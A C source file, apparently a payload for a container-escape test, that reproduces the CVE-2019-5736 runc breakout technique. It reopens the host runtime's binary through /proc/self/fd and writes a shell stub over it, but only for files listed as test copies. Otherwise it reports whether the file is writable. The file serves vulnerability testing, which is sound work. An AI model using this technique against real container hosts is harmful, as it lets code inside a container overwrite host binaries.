/*
 * The CVE-2019-5736 payload, for EscapeTest. Static, no libc: the kernel may load it as the
 * ELF interpreter of the runtime's own binary (java, runc), where libc's start-up would find
 * that binary's program headers instead of its own.
 *
 * Stage 1 (as the interpreter, or run as "payload keep"): open /proc/self/exe, which is then the
 * runtime's binary, read-only at fd 100, and exec "/payload reopen" keeping that fd; the exec
 * unmaps the binary from this process.
 * Stage 2 ("payload reopen"): once no process runs the binary any more (ETXTBSY ends), reopen
 * /proc/self/fd/100 for writing and print one line:
 *   OVERWROTE path   the file is one of the test's copies (its dev:ino is in COPY_IDS): it
 *                    was written, as an attacker would
 *   WRITABLE path    a file that still has a name on the host: opened, never written
 *   UNLINKED path    open for writing succeeded on a file with no name (runc's sealed memfd)
 *   REFUSED path errno   the kernel said no
 * then "DONE". The report goes to stdout and to /report (the test reads either).
 */
typedef unsigned long u64;
typedef long i64;

static i64 sys(i64 n, i64 a, i64 b, i64 c, i64 d) {
    i64 r;
    register i64 r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return r;
}
enum { READ = 0, WRITE = 1, OPEN = 2, CLOSE = 3, FSTAT = 5, PWRITE = 18, DUP2 = 33,
       NANOSLEEP = 35, EXECVE = 59, EXIT = 60, READLINK = 89 };
enum { O_RDONLY = 0, O_WRONLY = 1, O_CREAT = 0100, O_APPEND = 02000, ETXTBSY = 26 };
enum { KEPT = 100 };

struct stat { u64 dev, ino, nlink; unsigned mode, uid, gid, pad; u64 rdev; i64 size, blksize,
              blocks; u64 times[6]; i64 unused[3]; };

static u64 len(const char *s) { u64 n = 0; while (s[n]) n++; return n; }
static int starts(const char *s, const char *p) { while (*p) if (*s++ != *p++) return 0; return 1; }

static char line[4096];
static u64 used;
static void add(const char *s) { while (*s && used < sizeof line - 2) line[used++] = *s++; }
static void add_num(u64 v) {
    char b[24]; int i = 23; b[i] = 0;
    do { b[--i] = '0' + v % 10; v /= 10; } while (v);
    add(b + i);
}
static void emit(void) {
    line[used++] = '\n';
    sys(WRITE, 1, (i64) line, used, 0);
    i64 fd = sys(OPEN, (i64) "/report", O_WRONLY | O_CREAT | O_APPEND, 0644, 0);
    if (fd >= 0) { sys(WRITE, fd, (i64) line, used, 0); sys(CLOSE, fd, 0, 0, 0); }
    used = 0;
}

/* Is "dev:ino" in the space-separated list COPY_IDS? */
static int is_copy(char **envp, struct stat *st) {
    char want[48]; u64 saved = used; used = 0;
    add_num(st->dev); add(":"); add_num(st->ino);
    for (u64 i = 0; i < used; i++) want[i] = line[i];
    want[used] = 0; used = saved;
    for (; *envp; envp++) {
        if (!starts(*envp, "COPY_IDS=")) continue;
        for (const char *p = *envp + 9; *p;) {
            while (*p == ' ') p++;
            const char *w = want;
            while (*w && *p == *w) { p++; w++; }
            if (!*w && (*p == ' ' || !*p)) return 1;
            while (*p && *p != ' ') p++;
        }
    }
    return 0;
}

static void reopen(char **envp) {
    char path[512];
    i64 n = sys(READLINK, (i64) "/proc/self/fd/100", (i64) path, sizeof path - 1, 0);
    path[n > 0 ? n : 0] = 0;
    i64 fd = -ETXTBSY;
    struct { i64 s, ns; } pause = {0, 100000000};
    for (int i = 0; i < 300 && fd == -ETXTBSY; i++) {   /* 30 s */
        fd = sys(OPEN, (i64) "/proc/self/fd/100", O_WRONLY, 0, 0);
        if (fd == -ETXTBSY) sys(NANOSLEEP, (i64) &pause, 0, 0, 0);
    }
    if (fd < 0) {
        add("REFUSED "); add(path); add(" errno "); add_num(-fd);
    } else {
        struct stat st;
        sys(FSTAT, fd, (i64) &st, 0, 0);
        if (is_copy(envp, &st)) {
            sys(PWRITE, fd, (i64) "#!/bin/sh\necho OWNED\n", 21, 0);
            add("OVERWROTE ");
        } else {
            add(st.nlink > 0 ? "WRITABLE " : "UNLINKED ");
        }
        add(path);
    }
    emit();
    add("DONE"); emit();
}

static void keep(char **envp) {
    i64 fd = sys(OPEN, (i64) "/proc/self/exe", O_RDONLY, 0, 0);
    if (fd < 0) { add("REFUSED /proc/self/exe errno "); add_num(-fd); emit(); add("DONE"); emit(); return; }
    sys(DUP2, fd, KEPT, 0, 0);
    char *argv[] = {"payload", "reopen", 0};
    sys(EXECVE, (i64) "/payload", (i64) argv, (i64) envp, 0);
    add("REFUSED execve /payload"); emit();
}

void start(u64 *sp) {
    i64 argc = (i64) sp[0];
    char **argv = (char **) (sp + 1), **envp = argv + argc + 1;
    if (argc >= 2 && starts(argv[1], "reopen") && len(argv[1]) == 6) reopen(envp);
    else keep(envp);
    sys(EXIT, 0, 0, 0, 0);
}

__asm__(".globl _start\n_start:\n mov %rsp, %rdi\n and $-16, %rsp\n call start\n hlt\n");
